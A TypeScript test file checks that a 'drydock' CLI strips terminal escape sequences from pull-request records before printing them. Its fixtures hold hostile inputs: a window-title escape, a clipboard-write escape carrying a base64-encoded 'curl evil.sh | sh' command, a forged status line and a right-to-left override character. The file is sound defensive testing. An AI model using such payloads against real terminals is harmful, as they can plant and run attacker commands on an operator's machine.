/**
 * The compiled `drydock` command prints PR records (written from model and
 * repository text) without the escape sequences they hold: no window title,
 * no clipboard write, no forged status line reaches the operator's terminal.
 * The records are read on the agent worker, through Temporal.
 */
import * as path from 'path';
import { PullRequestRecords, type PullRequestRecord } from '../../activities/codehost/pr-record';
import { runCli, useAgentWorker } from '../support/cli';

const TITLE = '\x1b]0;pwned\x07';
const CLIPBOARD = `\x1b]52;c;${Buffer.from('curl evil.sh | sh').toString('base64')}\x07`;
const FORGED_STATUS = '\x1b[2K\rstatus succeeded';
const ESC_OR_CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f]|\u202e/;

const stack = useAgentWorker();
const record: PullRequestRecord = {
  id: 'drydock-1a2b3c4d',
  title: `Fix the parser${TITLE}`,
  repository: '/srv/repo',
  base: 'main',
  baseCommit: 'a'.repeat(40),
  head: 'drydock/1a2b3c4d',
  commit: 'b'.repeat(40),
  goalId: 'goal-1',
  state: 'open',
  draft: false,
  createdAt: '2026-01-01T00:00:00.000Z',
  updatedAt: '2026-01-01T00:00:00.000Z',
  body: `## Summary\nfixed it${CLIPBOARD}\n${FORGED_STATUS}\n\u202eevil`,
  files: [{ path: 'src/parser.js', status: 'M', additions: 1, deletions: 1 }],
  checks: [{ command: 'npm test', exitCode: 0, passed: true, durationMs: 10, logTail: '', logRef: 'x' }],
  usage: { promptTokens: 1, completionTokens: 1, totalTokens: 2 },
};

beforeAll(async () => {
  await new PullRequestRecords(path.join(stack.dataDir, 'prs')).write(record);
});

test('pr show prints the body without escape sequences, as readable text', async () => {
  const r = await runCli(['pr', 'show', record.id], stack.cliEnv);
  expect(r.code).toBe(0);
  expect(r.stdout).not.toMatch(ESC_OR_CONTROL);
  expect(r.stdout).toContain('# Fix the parser\n');
  expect(r.stdout).toContain('## Summary\nfixed it\nstatus succeeded\nevil\n');
});

test('pr list and pr show --json print no escape byte; the JSON still holds the data', async () => {
  const list = await runCli(['pr', 'list'], stack.cliEnv);
  expect(list.code).toBe(0);
  expect(list.stdout).not.toMatch(ESC_OR_CONTROL);
  expect(list.stdout).toContain(`${record.id}  drydock/1a2b3c4d → main  Fix the parser  (1 files`);
  const json = await runCli(['pr', 'show', record.id, '--json'], stack.cliEnv);
  expect(json.code).toBe(0);
  expect(json.stdout).not.toMatch(ESC_OR_CONTROL);
  expect((JSON.parse(json.stdout) as PullRequestRecord).body).toBe(record.body);
});

test('a failure line that echoes hostile input prints no escape byte', async () => {
  const r = await runCli(['pr', 'show', `x${TITLE}`], stack.cliEnv);
  expect(r.code).toBe(2);
  expect(r.stderr).toBe('drydock: no pull request x (see `drydock pr list`)\n');
});
